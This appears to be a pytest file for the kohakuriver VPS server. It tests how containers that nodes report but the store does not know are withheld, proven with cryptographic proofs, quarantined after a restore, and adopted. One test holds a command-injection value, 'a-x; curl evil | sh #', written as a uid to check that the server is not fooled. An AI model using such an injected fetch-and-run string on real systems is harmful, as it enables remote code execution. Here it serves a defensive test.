"""A container that the store does not know: nobody gets what it holds, and its VPS is not made twice."""

import dataclasses

import pytest

from kohakuriver import errors
from kohakuriver.apiserver.booking import booking
from kohakuriver.apiserver.booking.proofs import Proofs
from kohakuriver.apiserver.cache.strays import Strays
from kohakuriver.apiserver.identity import access
from kohakuriver.apiserver.identity.access import Attributes
from kohakuriver.apiserver.objects.refusal import Refusal
from kohakuriver.apiserver.store import codec
from kohakuriver.apiserver.store.base import Record
from kohakuriver.apiserver.store.lineage import History
from kohakuriver.resources import kinds
from tests.apiserver.writing import ALICE, CONTROLLER, Json, World, a_gpu, a_node, a_vps, a_world

pytestmark = [pytest.mark.looptime, pytest.mark.fault(39)]

UID = "0123456789abcdef"
NAME = "kohakuriver-default-dev-01234567"
PROOFS = Proofs(b"key")  # the world's, too
PROOF = PROOFS.of(node="n1", namespace="default", name="dev", uid=UID, epoch=3)
UNPROVED = [
    {"proof": None},
    {"proof": "0" * 64},
    {"proof": PROOFS.of(node="n2", namespace="default", name="dev", uid=UID, epoch=3)},
    {"proof": PROOFS.of(node="n1", namespace="default", name="dev", uid="another", epoch=3)},
    {"proof": PROOF, "epoch": 4},
]
QUARANTINE = {"id": "q", "since": "2026-01-01T00:00:00Z", "why": "it was restored"}


def an_unknown(**fields: object) -> Json:
    return {
        "container": NAME,
        "namespace": "default",
        "vps": "dev",
        "uid": UID,
        "epoch": 3,
        "state": "running",
        "cores": "2",
        "memory": "1Gi",
        "sshPort": 30000,
        "proof": PROOF,
        **fields,
    }


def a_node_with(unknown: Json, **fields: object) -> Json:
    node = a_node(cores="4", **fields)
    node["status"]["unknown"] = [unknown]
    return node


async def adopt(world: World, **body: object) -> Json:
    return (await world.act("adopt", node="n1", container=NAME, **body)).object  # type: ignore[arg-type]


async def test_what_an_unknown_container_holds_is_given_to_nobody() -> None:
    node = a_node_with(an_unknown(gpus=["GPU-n1-0"]), gpus=(a_gpu(0), a_gpu(1)))
    world = await a_world(node)
    await world.create(a_vps("big", resources={"cores": 3}))
    with pytest.raises(errors.Invalid, match="short of cores"):
        await world.act("bind", "big", node="n1")
    taken = await world.bound("small", placement={"gpus": {"count": 1}})
    assert taken["status"]["assignment"]["grant"]["sshPort"] == 30001
    assert taken["status"]["assignment"]["grant"]["gpus"] != ["GPU-n1-0"]


async def test_the_cores_that_an_unknown_container_has_for_itself_are_nobody_elses() -> None:
    node = a_node_with(an_unknown(cpuset="0-1"), numa=("0-3",), overcommit="4")
    world = await a_world(node)
    other = await world.bound("own", resources={"cores": 1, "exclusive": True})
    assert other["status"]["assignment"]["grant"]["cpuset"] == "2"
    await world.create(a_vps("big", resources={"cores": 4}))
    await world.bound("half", resources={"cores": 2})
    with pytest.raises(errors.Invalid, match="need 4, 2 free"):
        await world.act("bind", "big", node="n1")


async def test_who_is_adopted_keeps_the_cores_that_its_container_has_for_itself() -> None:
    world = await a_world(a_node_with(an_unknown(cpuset="1-2"), numa=("0-3",)))
    await world.create(a_vps(resources={"cores": 2, "memory": "1Gi", "exclusive": True}))
    adopted = await adopt(world)
    assert adopted["status"]["assignment"]["grant"]["cpuset"] == "1-2"


async def test_an_ended_one_keeps_its_port_and_gpus_alone() -> None:
    world = await a_world(a_node_with(an_unknown(state="exited", gpus=["GPU-n1-0"]), gpus=(a_gpu(0),)))
    big = await world.bound("big", resources={"cores": 3})
    assert big["status"]["assignment"]["grant"]["sshPort"] == 30001
    await world.create(a_vps("gpu", resources={"cores": "0.1"}, placement={"gpus": {"count": 1}}))
    with pytest.raises(errors.Invalid, match="0 of 1 GPUs free"):
        await world.act("bind", "gpu", node="n1")


async def test_a_vps_that_adopts_is_the_one_the_container_was_made_for() -> None:
    world = await a_world(a_node_with(an_unknown(gpus=["GPU-n1-0"]), gpus=(a_gpu(0),)))
    await world.create(a_vps("dev", resources={"cores": 1}))
    vps = await adopt(world)
    assert vps["metadata"]["uid"] == UID
    assignment = vps["status"]["assignment"]
    assert (assignment["node"], assignment["epoch"], vps["status"]["epoch"]) == ("n1", 3, 3)
    assert assignment["grant"] == {"cores": "1", "memory": "1Gi", "sshPort": 30000}
    booked = (await world.bookings())[UID]
    assert (booked["cores"], booked["sshPort"], booked["gpus"]) == ("2", 30000, ["GPU-n1-0"])
    assert "Adopted" in [why for why, _ in await world.events()]
    reported = await world.report(
        observed={"epoch": 3, "grant": {"cores": "1", "memory": "1Gi"}}, observedGeneration=1
    )
    assert reported.object["status"]["phase"] == "running"
    assert "gpus" not in (await world.bookings())[UID]


@pytest.mark.parametrize(
    "unknown",
    [
        an_unknown(vps="other"),
        an_unknown(namespace="other"),
        an_unknown(container="a-copy"),
        {key: value for key, value in an_unknown().items() if key != "epoch"},
    ],
)
async def test_only_its_own_container_is_adopted(unknown: Json) -> None:
    world = await a_world(a_node_with(unknown))
    await world.create(a_vps("dev"))
    with pytest.raises(errors.Conflict, match="reports no unknown container"):
        await adopt(world)


async def test_what_is_bound_adopts_nothing() -> None:
    world = await a_world(a_node_with(an_unknown()), a_node("n2"))
    await world.create(a_vps("dev"))
    await world.act("bind", node="n2")
    with pytest.raises(errors.Conflict, match="placed on a node already"):
        await adopt(world)


async def test_a_node_in_quarantine_gets_nothing_new() -> None:
    node = a_node()
    node["status"]["quarantine"] = QUARANTINE
    world = await a_world(node)
    await world.create(a_vps("dev"))
    with pytest.raises(errors.Invalid, match="in quarantine: it was restored"):
        await world.act("bind", node="n1")


def a_record(name: str, **status: object) -> Record:
    node = {"metadata": {"name": name}, "spec": status.pop("spec", {}), "status": status}
    return Record(codec.key(kinds.NODE, None, name), codec.encode(node), 1, 1)


def test_after_a_restore_nothing_is_placed_before_every_node_has_spoken_or_a_person_has() -> None:
    strays, history = Strays(), History("c", "h2", offset=10**12)
    asked = {"namespace": "default", "name": "dev", "uid": "u"}
    strays.replace([a_record("n1", history="h2"), a_record("n2", history="h1")])
    said = strays.obstacle(history, PROOFS, **asked)
    assert "n2 has not said yet" in said and "kohakuriver node accept n2" in said
    assert strays.obstacle(dataclasses.replace(history, offset=0), PROOFS, **asked) == ""
    n2 = a_record("n2", history="h1", spec={"accepts": "h2"})
    strays.apply(n2.key, n2)
    assert strays.obstacle(history, PROOFS, **asked) == ""


@pytest.mark.parametrize(
    ("name", "uid", "held"), [("dev", "u", True), ("else", UID, True), ("else", "u", False)]
)
def test_nothing_is_placed_under_the_name_or_uid_of_an_unknown_container(
    name: str, uid: str, held: bool
) -> None:
    strays = Strays()
    strays.replace([a_record("n1", unknown=[an_unknown()])])
    said = strays.obstacle(History("c", "h"), PROOFS, namespace="default", name=name, uid=uid)
    assert (f"kohakuriver vps adopt {name}" in said) is held
    assert (f"docker rm -f {NAME}" in said) is held


@pytest.mark.parametrize("made_up", UNPROVED, ids=str)
def test_what_a_node_makes_up_stands_in_nobodys_way(made_up: Json) -> None:
    strays, asked = Strays(), {"namespace": "default", "name": "dev", "uid": "u"}
    strays.replace([a_record("n1", unknown=[an_unknown(**made_up)])])
    assert strays.obstacle(History("c", "h"), PROOFS, **asked) == ""


@pytest.mark.parametrize("offset", [0, 10**12])
def test_what_has_no_proof_counts_after_a_restore_and_says_that_it_has_none(offset: int) -> None:
    strays, asked = Strays(), {"namespace": "default", "name": "dev", "uid": "u"}
    said = {"unknown": [an_unknown(proof=None)], "history": "h"}
    node = a_record("n1", **said, **({} if offset else {"quarantine": QUARANTINE}))
    strays.replace([node])
    history = History("c", "h", offset=offset)
    assert "n1 alone says so, and nothing proves it" in strays.obstacle(history, PROOFS, **asked)
    accepted = a_record("n1", **said, quarantine=QUARANTINE, spec={"accepts": "q"})
    strays.apply(accepted.key, accepted)
    assert bool(strays.obstacle(history, PROOFS, **asked)) is bool(offset)


def test_a_uid_that_is_none_is_no_container_of_anybodys() -> None:
    uid = "a-x; curl evil | sh #"
    own = an_unknown(uid=uid, container=f"kohakuriver-default-dev-{uid[:8]}")
    own["proof"] = PROOFS.of(node="n1", namespace="default", name="dev", uid=uid, epoch=3)
    strays = Strays()
    strays.replace([a_record("n1", unknown=[own])])
    assert strays.obstacle(History("c", "h"), PROOFS, namespace="default", name="dev", uid="u") == ""


@pytest.mark.parametrize("made_up", UNPROVED, ids=str)
async def test_what_a_node_makes_up_is_not_adopted(made_up: Json) -> None:
    world = await a_world(a_node_with(an_unknown(**made_up)))
    await world.create(a_vps("dev", env={"PASSWORD": "secret"}))
    with pytest.raises(errors.Conflict, match="nothing proves it") as caught:
        await adopt(world)
    assert "kohakuriver node revoke n1" in caught.value.hint
    assert "assignment" not in (await world.vps())["status"]


@pytest.mark.parametrize("quarantine", [None, QUARANTINE], ids=["none", "quarantine"])
async def test_what_was_made_before_there_were_proofs_a_person_adopts_by_saying_so(
    quarantine: Json | None,
) -> None:
    node = a_node_with(an_unknown(proof=None))
    if quarantine is not None:
        node["status"]["quarantine"] = quarantine
    world = await a_world(node)
    await world.create(a_vps("dev"))
    with pytest.raises(errors.Conflict, match="nothing proves it") as caught:
        await adopt(world)
    assert f"docker inspect {NAME}" in caught.value.hint and "--unproved" in caught.value.hint
    assert (await adopt(world, unproved=True))["metadata"]["uid"] == UID


async def test_what_is_bound_has_the_proof_and_so_has_what_is_granted_anew_or_adopted() -> None:
    world = await a_world(a_node_with(an_unknown()))
    await world.create(a_vps("dev"))
    adopted = await adopt(world)
    assert adopted["status"]["assignment"]["proof"] == PROOF
    other = await world.bound("other")
    found = other["status"]["assignment"]
    uid = other["metadata"]["uid"]
    assert found["proof"] == PROOFS.of(node="n1", namespace="default", name="other", uid=uid, epoch=1)


async def test_what_a_server_of_before_has_bound_gets_its_proof_with_the_next_grant() -> None:
    world = await a_world(a_node("n1"))
    await world.bound()
    await world.patch({"spec": {"runState": "Stopped"}})
    await world.report(state="stopped", observedGeneration=2)
    await world.act("release")
    await world.patch({"spec": {"runState": "Running"}})
    vps = await world.vps()
    del vps["status"]["assignment"]["proof"]
    await world.put(kinds.VPS, vps)
    found = (await world.act("regrant")).object
    assert PROOFS.hold(
        "n1",
        {
            "namespace": "default",
            "vps": "dev",
            "uid": found["metadata"]["uid"],
            "epoch": 1,
            "proof": found["status"]["assignment"]["proof"],
        },
    )


async def test_a_user_does_not_adopt() -> None:
    wanted = Attributes("create", kinds.VPS, "adopt", "default", "dev")
    for user in (ALICE, CONTROLLER):
        with pytest.raises(errors.Forbidden):
            access.check(user, wanted)


def test_a_booking_that_is_there_already_is_not_overwritten() -> None:
    vps = {**a_vps("dev"), "metadata": {"name": "dev", "namespace": "default", "uid": UID}}
    allocation = {"metadata": {"name": "n1"}, "bookings": {UID: {"tombstone": {}}}}
    vps["spec"] = {"resources": {"cores": "1", "memory": "1Gi"}}
    assert isinstance(booking.adopt(allocation, a_node(), vps, an_unknown(), id_="x"), Refusal)
